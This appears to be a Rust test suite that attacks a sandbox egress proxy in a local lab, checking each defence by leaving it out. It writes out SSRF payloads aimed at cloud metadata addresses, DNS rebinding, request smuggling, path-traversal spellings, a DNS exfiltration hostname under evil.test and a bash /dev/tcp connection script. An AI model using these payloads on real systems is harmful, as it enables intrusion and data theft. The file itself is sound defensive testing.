//! The attacks on the proxy. Each returns whether it worked.

use super::lab::{
    Kind, Lab, LabConfig, PUBLIC, Server, Trust, authorization, identifier, rule, server, start_lab, talk,
};
use super::suite::{Outcome, Presence};
use super::weak::{ByOwnName, Defence, WithoutDefence};
use crate::credentials::{Credential, CredentialPlacement, CredentialSource, CredentialStore, Secret};
use crate::proxy::defences::{AllDefences, Defences};
use crate::resolver::{Resolve, ResolveError, ResolveFuture};
use std::net::IpAddr;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::AsyncWriteExt;

const READ_ONLY: &str = "        protocol: rest\n        enforcement: enforce\n        access: read-only";
const ENFORCED: &str = "        protocol: rest\n        enforcement: enforce\n        rules:\n          - allow: {method: \"*\", path: \"/open/**\"}\n        deny_rules:\n          - {method: \"*\", path: \"/open/secret\"}";

impl Presence {
    fn without(self, defence: Defence) -> Arc<dyn Defences> {
        if self == Self::LeftOut { Arc::new(WithoutDefence::new(defence)) } else { Arc::new(AllDefences) }
    }
}

/// A TLS server of `api.test` under these keys, and the proxy before it.
async fn inspecting(keys: &str, defences: Arc<dyn Defences>) -> (Lab, Server) {
    let mut config = LabConfig::new("");
    let server = server(Kind::Tls(config.vendor.clone())).await;
    config.policy = rule(server.port, keys);
    config.defences = defences;
    (start_lab(config).await, server)
}

impl Server {
    fn got(&self, beginning: &str) -> bool {
        self.heads.lock().unwrap().iter().any(|head| head.starts_with(beginning))
    }
}

pub(super) async fn odd_hosts(layer: Presence) -> Outcome {
    if layer == Presence::LeftOut {
        return Outcome::Reason(
            "policy, resolver and server get one parsed name: there is no second reading",
        );
    }
    let lab = start_lab(LabConfig::new(rule(443, ""))).await;
    for authority in [
        "other.test\0.api.test:443",
        "api.test@other.test:443",
        "api.test%2eother.test:443",
        "api.test\t:443",
    ] {
        lab.raw(&format!("CONNECT {authority} HTTP/1.1\r\nHost: api.test:443\r\n\r\n")).await;
    }
    (!lab.dialled().is_empty()).into()
}

pub(super) async fn plain_requests(layer: Presence) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut config = LabConfig::new(rule(server.port, READ_ONLY));
    config.defences = layer.without(Defence::PlainRequests);
    let lab = start_lab(config).await;
    let head = format!(
        "POST http://api.test:{0}/a HTTP/1.1\r\nHost: api.test:{0}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        server.port
    );
    lab.raw(&head).await;
    server.got("POST /a").into()
}

/// The defence is the list itself: without it the host is reached.
pub(super) async fn another_host(layer: Presence) -> Outcome {
    let server = server(Kind::Plain).await;
    let listed = if layer == Presence::There { "api.test" } else { "other.test" };
    let lab = start_lab(LabConfig::new(
        rule(server.port, "").replace("host: api.test", &format!("host: {listed}")),
    ))
    .await;
    lab.tunnel(&format!("other.test:{}", server.port)).await.is_ok().into()
}

/// Answers differently each time, and remembers that it was asked.
struct Changing {
    answers: Vec<IpAddr>,
    asked: AtomicUsize,
    names: Mutex<Vec<String>>,
}

impl Changing {
    fn new(answers: &[&str]) -> Arc<Self> {
        let answers = answers.iter().map(|text| text.parse().unwrap()).collect();
        Arc::new(Self { answers, asked: AtomicUsize::new(0), names: Mutex::default() })
    }

    fn next(&self) -> IpAddr {
        let at = self.asked.fetch_add(1, Ordering::Relaxed).min(self.answers.len() - 1);
        self.answers[at]
    }
}

impl Resolve for Changing {
    fn resolve<'a>(&'a self, host: &'a str) -> ResolveFuture<'a> {
        self.names.lock().unwrap().push(host.to_owned());
        let answer: Result<Vec<IpAddr>, ResolveError> = Ok(vec![self.next()]);
        Box::pin(std::future::ready(answer))
    }
}

/// The defence is the decision, which resolving takes as a parameter: with an allowing policy the name is resolved.
pub(super) async fn early_lookup(layer: Presence) -> Outcome {
    let resolver = Changing::new(&[PUBLIC]);
    let listed = if layer == Presence::There { "api.test" } else { "\"*.evil.test\"" };
    let policy = rule(443, "").replace("host: api.test", &format!("host: {listed}"));
    let mut config = LabConfig::new(policy);
    config.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
    let lab = start_lab(config).await;
    drop(lab.tunnel("c2VjcmV0.evil.test:443").await);
    let resolved = !resolver.names.lock().unwrap().is_empty();
    resolved.into()
}

/// The defence is that the checked address is dialled: a dialer that resolves again reaches another one.
pub(super) async fn rebinding(layer: Presence) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut config = LabConfig::new(rule(server.port, ""));
    let resolver = Changing::new(&[PUBLIC, "169.254.169.254"]);
    config.resolver = Some(Arc::clone(&resolver) as Arc<dyn Resolve>);
    if layer == Presence::LeftOut {
        config.dials = Some(Arc::new(move || resolver.next()));
    }
    let lab = start_lab(config).await;
    drop(lab.tunnel(&format!("api.test:{}", server.port)).await);
    lab.dialled().contains(&"169.254.169.254".parse().unwrap()).into()
}

pub(super) async fn disguised_addresses(layer: Presence) -> Outcome {
    let mut worked = 0;
    let disguises = [
        "::ffff:169.254.169.254",
        "64:ff9b::a9fe:a9fe",
        "2002:7f00:1::",
        "::7f00:1",
        "127.0.0.1",
        "fd00:ec2::254",
        "0.0.0.0",
    ];
    for address in disguises {
        let server = server(Kind::Plain).await;
        let mut config = LabConfig::new(rule(server.port, ""));
        config.names = vec![("api.test", vec![PUBLIC.parse().unwrap(), address.parse().unwrap()])];
        config.defences = layer.without(Defence::Addresses);
        let lab = start_lab(config).await;
        drop(lab.tunnel(&format!("api.test:{}", server.port)).await);
        worked += usize::from(!lab.dialled().is_empty());
    }
    match layer {
        Presence::There => worked > 0,
        Presence::LeftOut => worked == disguises.len(),
    }
    .into()
}

/// A client that follows a redirect sends a new request; the defence is that the new request is decided.
pub(super) async fn redirect(layer: Presence) -> Outcome {
    let mut config = LabConfig::new("");
    let target = server(Kind::Plain).await;
    let listed = if layer == Presence::There { "api.test" } else { "other.test" };
    config.policy = rule(target.port, "").replace("host: api.test", &format!("host: {listed}"));
    config.names.push(("metadata.test", vec!["169.254.169.254".parse().unwrap()]));
    let lab = start_lab(config).await;
    let location = format!("http://other.test:{}/open", target.port);
    lab.raw(&format!(
        "GET {location} HTTP/1.1\r\nHost: other.test:{}\r\nConnection: close\r\n\r\n",
        target.port
    ))
    .await;
    let metadata =
        lab.raw("GET http://169.254.169.254/latest HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").await;
    assert!(metadata.starts_with("HTTP/1.1 403 "), "{metadata}");
    target.got("GET /open").into()
}

pub(super) async fn smuggling(layer: Presence) -> Outcome {
    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Heads)).await;
    let hidden =
        format!("GET /open/secret HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
    // The server takes the first length, a forgiving proxy the last.
    let head = format!(
        "POST /open/a HTTP/1.1\r\nHost: api.test:{}\r\nContent-Length: 0\r\nContent-Length: {}\r\n\r\n{hidden}",
        server.port,
        hidden.len()
    );
    talk(lab.inspected(server.port).await, &head).await;
    server.got("GET /open/secret").into()
}

pub(super) async fn path_spellings(layer: Presence) -> Outcome {
    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Paths)).await;
    let mut worked = 0;
    let spellings = ["/open/x/../secret", "/open/%73ecret", "/open//secret"];
    for path in spellings {
        let head =
            format!("GET {path} HTTP/1.1\r\nHost: api.test:{}\r\nConnection: close\r\n\r\n", server.port);
        talk(lab.inspected(server.port).await, &head).await;
        worked += usize::from(server.got(&format!("GET {path} ")) || server.got("GET /open/secret "));
    }
    match layer {
        Presence::There => worked > 0,
        Presence::LeftOut => worked == spellings.len(),
    }
    .into()
}

pub(super) async fn another_host_inside(layer: Presence) -> Outcome {
    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::Agreement)).await;
    let fronted = "GET /open/a HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n";
    talk(lab.inspected(server.port).await, fronted).await;
    let host = server.heads.lock().unwrap().iter().any(|head| head.contains("Host: other.test"));
    let stream = lab.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
    // The certificate is for the tunnel's host; the test only checks that the handshake took place.
    drop(lab.tls(stream, Trust::Run, "other.test").await);
    host.into()
}

pub(super) async fn second_request(layer: Presence) -> Outcome {
    let (lab, server) = inspecting(ENFORCED, layer.without(Defence::EveryRequest)).await;
    let host = format!("Host: api.test:{}", server.port);
    let both = format!(
        "GET /open/a HTTP/1.1\r\n{host}\r\n\r\nGET /open/secret HTTP/1.1\r\n{host}\r\nConnection: close\r\n\r\n"
    );
    talk(lab.inspected(server.port).await, &both).await;
    assert!(server.got("GET /open/a"));
    server.got("GET /open/secret").into()
}

pub(super) async fn own_name(layer: Presence) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut config = LabConfig::new(rule(server.port, "").replace("/**", "/usr/bin/only-this"));
    if layer == Presence::LeftOut {
        config.identifier = Arc::new(ByOwnName(identifier()));
    }
    let lab = start_lab(config).await;
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{}; printf 'CONNECT api.test:{1} HTTP/1.1\\r\\nHost: api.test:{1}\\r\\n\\r\\n' >&3; read -r -t 10 line <&3; echo \"$line\"",
        lab.proxy.port(),
        server.port
    );
    let mut command = Command::new("bash");
    command.args(["-c", "exec -a /usr/bin/only-this bash -c \"$1\"", "bash", &script]);
    let output = tokio::task::spawn_blocking(move || command.output()).await.unwrap().unwrap();
    String::from_utf8_lossy(&output.stdout).contains(" 200 ").into()
}

/// The defence is the binding: an endpoint that the policy binds to the provider gets the value.
pub(super) async fn credential_elsewhere(layer: Presence) -> Outcome {
    let mut config = LabConfig::new("");
    let server = server(Kind::Tls(config.vendor.clone())).await;
    let source = CredentialSource::fixed(Secret::new("s3cret".to_owned()));
    let credential = Credential {
        provider: "p".into(),
        key: "TOKEN".into(),
        source,
        endpoints: Vec::new(),
        placements: [authorization(), vec![CredentialPlacement::QueryParameter("key".to_owned())]].concat(),
        plain: false,
    };
    let store = CredentialStore::new(vec![credential]).unwrap();
    let placeholder = store.placeholders()[0].1.clone();
    config.credentials = Arc::new(store);
    let binding = "\n        credential_binding: {provider: p}";
    let keys = if layer == Presence::There { READ_ONLY.to_owned() } else { format!("{READ_ONLY}{binding}") };
    config.policy = rule(server.port, &keys);
    let lab = start_lab(config).await;
    let head = format!(
        "GET /a?key={placeholder} HTTP/1.1\r\nHost: api.test:{}\r\nAuthorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n",
        server.port
    );
    talk(lab.inspected(server.port).await, &head).await;
    assert!(!format!("{:?}", lab.events.lock().unwrap()).contains("s3cret"));
    let heads = server.heads.lock().unwrap();
    heads.iter().any(|head| head.contains("s3cret") || head.contains(&placeholder)).into()
}

/// The defence is that requests are read: with a rule for the connection alone, a program can post anything to an
/// allowed host.
pub(super) async fn allowed_relay(layer: Presence) -> Outcome {
    let mut config = LabConfig::new("");
    let server = server(Kind::Tls(config.vendor.clone())).await;
    let (keys, trust) = match layer {
        Presence::There => (READ_ONLY, Trust::Run),
        Presence::LeftOut => ("", Trust::Server),
    };
    config.policy = rule(server.port, keys);
    let lab = start_lab(config).await;
    let stream = lab.tunnel(&format!("api.test:{}", server.port)).await.unwrap();
    let stream = lab.tls(stream, trust, "api.test").await.unwrap();
    let head = format!(
        "POST /gists HTTP/1.1\r\nHost: api.test:{}\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndata",
        server.port
    );
    talk(stream, &head).await;
    server.got("POST /gists").into()
}

/// With the key, a program can pose as any host; so the sandbox must not be able to read it.
pub(super) async fn authority_key(layer: Presence) -> Outcome {
    let authority = crate::tls::RunAuthority::new().unwrap();
    if layer == Presence::There {
        let open = std::fs::read_dir("/proc/self/fd").unwrap().filter_map(Result::ok);
        let files = open.filter_map(|entry| std::fs::read_link(entry.path()).ok());
        let on_disk = files.filter(|path| path.is_file()).any(|path| {
            std::fs::read(path).is_ok_and(|text| String::from_utf8_lossy(&text).contains("PRIVATE KEY"))
        });
        return (on_disk || authority.certificate_pem().contains("PRIVATE")).into();
    }
    let (client, server) = tokio::io::duplex(1 << 16);
    let roots = crate::dial::Roots::only([authority.certificate().clone()]);
    let config = authority.server_config("bank.test", None).unwrap();
    let accepting = tokio_rustls::TlsAcceptor::from(config).accept(server);
    let name = rustls::pki_types::ServerName::try_from("bank.test").unwrap();
    let connecting = tokio_rustls::TlsConnector::from(Arc::new(roots.client_config())).connect(name, client);
    let (accepted, connected) = tokio::join!(accepting, connecting);
    (accepted.is_ok() && connected.is_ok()).into()
}

/// The defence is the time limit for a head.
pub(super) async fn slow_heads(layer: Presence) -> Outcome {
    let server = server(Kind::Plain).await;
    let mut config = LabConfig::new(rule(server.port, ""));
    config.limits.connections = 2;
    config.limits.head_time =
        if layer == Presence::There { Duration::from_millis(100) } else { Duration::from_secs(600) };
    let lab = start_lab(config).await;
    let mut held = Vec::new();
    for _ in 0..8 {
        let mut stream = lab.connect().await;
        stream.write_all(b"G").await.unwrap();
        held.push(stream);
    }
    let authority = format!("api.test:{}", server.port);
    let others = tokio::time::timeout(Duration::from_secs(5), lab.tunnel(&authority)).await;
    let starved = !matches!(others, Ok(Ok(_)));
    starved.into()
}
